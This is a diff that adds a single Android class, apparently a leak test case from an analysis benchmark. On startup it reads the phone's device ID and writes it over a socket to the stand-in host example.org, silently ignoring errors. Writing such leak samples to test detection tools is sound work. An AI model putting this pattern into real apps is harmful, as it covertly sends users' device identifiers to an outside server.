@@ -1,0 +1,32 @@
+package org.brookside.ways;
+
+import android.app.*;
+import android.content.*;
+import android.content.res.Configuration;
+import android.database.*;
+import android.database.sqlite.*;
+import android.location.*;
+import android.net.Uri;
+import android.os.*;
+import android.telephony.*;
+import android.text.*;
+import android.util.*;
+import android.view.*;
+import android.webkit.*;
+import android.widget.*;
+import java.io.*;
+import java.lang.ref.*;
+import java.lang.reflect.*;
+import java.net.*;
+import java.util.*;
+import java.util.concurrent.*;
+import java.util.concurrent.atomic.*;
+import java.util.regex.*;
+
+/** Into the stream of a socket. */
+public class Socketed extends Case {
+    @Override protected void onCreate(Bundle s) {
+        super.onCreate(s);
+        try { new DataOutputStream(new Socket("example.org", 80).getOutputStream()).writeUTF(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId()); } catch (IOException x) { }
+    }
+}
